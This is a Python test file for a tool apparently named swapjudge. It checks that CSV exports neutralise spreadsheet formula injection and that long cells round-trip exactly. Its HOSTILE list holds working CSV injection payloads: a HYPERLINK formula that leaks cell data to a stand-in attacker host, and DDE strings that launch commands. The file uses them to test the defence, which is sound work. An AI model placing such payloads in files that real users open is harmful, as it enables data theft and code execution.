"""The CSV files swapjudge writes for people's spreadsheets (the blind review sheet, its key, the review queue,
`swapjudge export`, `import -o x.csv`) hold untrusted text: model answers, judge replies, item ids and system
names from other people's files. A cell a spreadsheet would run as a formula (=, +, -, @, tab or CR first) is
written with a leading `'`, as OWASP advises; every swapjudge reader of CSV (`review tally`, `import csv`,
`analyze`) takes it off again, so the round trip gives back exactly the text written. And a cell longer than
Python's csv default (131,072 characters: a long answer) is read, not refused."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from judge_server import JudgeServer
from runner_helpers import write_config
from swapjudge.cli import app
from swapjudge.reading.textfiles import FORMULA_STARTS, allow_long_cells, from_spreadsheet, spreadsheet_cell

SRC = str(Path(__file__).resolve().parents[2] / "src")
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"see the answer")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# texts that look like an escaped cell, or carry a quote, must come back as they are too
LOOKALIKES = ["'=already quoted", "''@twice", "'plain quote", "it's fine", "-"]


def _process(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The CLI in a fresh process: csv's cell limit is process-wide, so the long-cell test needs one whose limit
    nothing but the command itself has raised."""
    env = {**os.environ, "PYTHONPATH": SRC, "OPENAI_API_KEY": "test-key"}
    return subprocess.run([sys.executable, "-m", "swapjudge", *args], cwd=cwd, capture_output=True, text=True,
                          env=env, timeout=180)


def _cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The CLI in this process (CliRunner; an exception its error handling lets through fails the test)."""
    with contextlib.chdir(cwd):
        done = CliRunner().invoke(app, list(args), env={"OPENAI_API_KEY": "test-key"}, catch_exceptions=False)
    return subprocess.CompletedProcess(list(args), done.exit_code, done.stdout, done.stderr)


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [v for row in rows for v in row.values() if v and v.startswith(FORMULA_STARTS)]


def _pairs(directory: Path, answer_length: int = 0) -> Path:
    """One item per hostile text: it is the item id, a system name, the prompt and an answer."""
    rows = []
    for i, text in enumerate(HOSTILE + LOOKALIKES):
        long = "x" * answer_length
        rows.append({"item": text, "prompt": f"{text} (prompt)",
                     "answers": {text: f"{text} (answer){long}", "plain": f"a plain answer {i}{long}"},
                     "label": text})
    path = directory / "pairs.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _fill(path: Path, sheet: list[dict[str, str]], choice: str) -> None:
    """The sheet as a reviewer saves it: `choice` on every row."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(sheet[0]))
        writer.writeheader()
        writer.writerows({**row, "choice": choice} for row in sheet)


@pytest.mark.parametrize("text", [*HOSTILE, *LOOKALIKES, "", "plain", "'", "''"])
def test_the_escape_is_undone_exactly(text: str) -> None:
    written = spreadsheet_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert from_spreadsheet(written) == text
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell(3) == 3  # numbers are numbers, not formulas


def test_sheet_and_key_are_neutralised_and_the_tally_gives_the_exact_names(tmp_path: Path) -> None:
    pairs = _pairs(tmp_path)
    made = _cli(tmp_path, "review", "sheet", "pairs.jsonl", "-o", "sheet.csv", "--key", "key.csv", "--seed", "3")
    assert made.returncode == 0, made.stderr
    sheet, key = _cells(tmp_path / "sheet.csv"), _cells(tmp_path / "key.csv")
    assert _formula_cells(sheet) == [] and _formula_cells(key) == []
    # every formula-like prompt and answer is on the sheet, escaped: each prompt and answer twice (2 presentations)
    escaped = [v for row in sheet for v in row.values() if v.startswith("'") and v[1:].startswith(FORMULA_STARTS)]
    assert len(escaped) == 4 * sum(t.startswith(FORMULA_STARTS) for t in HOSTILE + LOOKALIKES) == 4 * 8
    # a reviewer picks the left answer everywhere; the tally names the systems exactly as the pairs file does
    _fill(tmp_path / "filled.csv", sheet, "left")
    done = _cli(tmp_path, "review", "tally", "filled.csv", "--key", "key.csv", "-o", "tally.jsonl")
    assert done.returncode == 0, done.stderr
    records = [json.loads(line) for line in (tmp_path / "tally.jsonl").read_text(encoding="utf-8").splitlines()]
    wanted = {json.loads(line)["item"]: json.loads(line) for line in pairs.read_text(encoding="utf-8").splitlines()}
    assert {r["item"] for r in records} == set(wanted)
    for r in records:
        assert {r["first"], r["second"]} == set(wanted[r["item"]]["answers"])
        assert r["label"] == wanted[r["item"]]["label"]
    # the tally as CSV is escaped too, and `analyze` reads it back to the same names
    done = _cli(tmp_path, "review", "tally", "filled.csv", "--key", "key.csv", "-o", "tally.csv")
    assert done.returncode == 0, done.stderr
    assert _formula_cells(_cells(tmp_path / "tally.csv")) == []
    from_csv = json.loads(_cli(tmp_path, "analyze", "tally.csv", "-f", "json").stdout)
    from_jsonl = json.loads(_cli(tmp_path, "analyze", "tally.jsonl", "-f", "json").stdout)
    assert from_csv["systems_seen"] == from_jsonl["systems_seen"] == sorted({*HOSTILE, *LOOKALIKES, "plain"})
    assert from_csv["pairs"] == from_jsonl["pairs"] == {"total": 12, "complete": 12, "incomplete": 0}


def test_a_run_export_and_its_review_queue_are_neutralised(tmp_path: Path) -> None:
    _pairs(tmp_path)
    with JudgeServer(policy="first") as server:  # slot 1 always: every pair flips, so all go to the queue
        config = write_config(tmp_path, base_url=server.openai_url, pairs={"path": "pairs.jsonl"})
        ran = _cli(tmp_path, "run", config.name, "--no-progress", "-f", "json")
    assert ran.returncode in (0, 1), ran.stderr  # the gate fails (every pair flipped): exit 1 is the verdict
    exported = _cli(tmp_path, "export", "--latest", "-o", "run.csv")
    assert exported.returncode == 0, exported.stderr
    rows = _cells(tmp_path / "run.csv")
    assert len(rows) == 2 * 12 and _formula_cells(rows) == []
    assert {r["item"] for r in rows if r["item"].startswith("'")} == {"'" + t for t in HOSTILE} | {
        "''=already quoted", "'''@twice", "'plain quote", "'-"}
    # the export reads back (analyze, import csv) to the store's own names
    from_csv = json.loads(_cli(tmp_path, "analyze", "run.csv", "-f", "json").stdout)
    assert from_csv["systems_seen"] == sorted({*HOSTILE, *LOOKALIKES, "plain"})
    imported = _cli(tmp_path, "import", "csv", "run.csv", "--item", "item", "--first", "first", "--second", "second",
                    "--verdict", "verdict", "--map", "first=first,second=second,tie=tie", "-o", "imported.jsonl")
    assert imported.returncode == 0, imported.stderr
    back = [json.loads(line) for line in (tmp_path / "imported.jsonl").read_text(encoding="utf-8").splitlines()]
    # exact but for what `import csv` always does to an id: trim its spaces (so "\t=1+1" and "\r=1+1" meet)
    assert {r["item"] for r in back} == {r["item"].strip() for r in _stored(tmp_path)}
    # the queue of the flipped pairs carries the prompts, answers and raw replies: escaped where formula-like
    queued = _cli(tmp_path, "review", "queue", "swapjudge.db", "--pairs", "pairs.jsonl", "-o", "queue.csv")
    assert queued.returncode == 0, queued.stderr
    queue = _cells(tmp_path / "queue.csv")
    assert len(queue) == 12 and _formula_cells(queue) == []
    answers = {r["item"]: r["answers"] for r in map(json.loads, (tmp_path / "pairs.jsonl").read_text(
        encoding="utf-8").splitlines())}
    for row in queue:
        item = from_spreadsheet(row["item"])
        assert {from_spreadsheet(row["text_x"]), from_spreadsheet(row["text_y"])} == set(answers[item].values())
        assert {from_spreadsheet(row["x"]), from_spreadsheet(row["y"])} == set(answers[item])


def _stored(directory: Path) -> list[dict[str, Any]]:
    from runner_helpers import stored_calls

    return stored_calls(directory / "swapjudge.db")


def test_import_csv_writes_escaped_cells_and_reads_them_back(tmp_path: Path) -> None:
    ids = [t for t in HOSTILE if t == t.strip()]  # `import csv` trims an id's spaces, tabs and CRs
    table = tmp_path / "calls.csv"
    with table.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["q", "left", "right", "winner"])
        for text in ids:
            writer.writerow([text, text, "plain", "L"])
            writer.writerow([text, "plain", text, "R"])
    done = _cli(tmp_path, "import", "csv", "calls.csv", "--item", "q", "--first", "left", "--second", "right",
                "--verdict", "winner", "--map", "L=first,R=second", "-o", "out.csv")
    assert done.returncode == 0, done.stderr
    written = _cells(tmp_path / "out.csv")
    assert _formula_cells(written) == [] and len(written) == 2 * len(ids) == 10
    again = _cli(tmp_path, "import", "csv", "out.csv", "--item", "item", "--first", "first", "--second", "second",
                 "--verdict", "verdict", "--map", "first=first,second=second", "-o", "again.jsonl")
    assert again.returncode == 0, again.stderr
    rows = [json.loads(line) for line in (tmp_path / "again.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(r["item"] for r in rows) == sorted(t for t in ids for _ in range(2))
    assert {r["first"] for r in rows} == {*ids, "plain"}


def test_a_150000_character_answer_goes_through_sheet_and_tally(tmp_path: Path) -> None:
    _pairs(tmp_path, answer_length=150_000)
    made = _process(tmp_path, "review", "sheet", "pairs.jsonl", "-o", "sheet.csv", "--key", "key.csv", "--seed", "1")
    assert made.returncode == 0, made.stderr
    assert (tmp_path / "sheet.csv").stat().st_size > 24 * 2 * 150_000  # each presentation: both long answers
    allow_long_cells()  # this test's own reader
    rows = _cells(tmp_path / "sheet.csv")
    assert max(len(row["answer_left"]) for row in rows) > 150_000
    _fill(tmp_path / "filled.csv", rows, "right")
    done = _process(tmp_path, "review", "tally", "filled.csv", "--key", "key.csv", "-o", "tally.jsonl")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert len((tmp_path / "tally.jsonl").read_text(encoding="utf-8").splitlines()) == 24
    # the same long cells through the other CSV readers: a pairs file and a table of calls
    long_pairs = tmp_path / "pairs.csv"
    with long_pairs.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["item", "prompt", "answer.a", "answer.b"])
        writer.writerow(["q1", "task", "y" * 150_000, "short"])
    dry = _process(tmp_path, "review", "sheet", "pairs.csv", "-o", "s2.csv", "--key", "k2.csv")
    assert dry.returncode == 0, dry.stderr
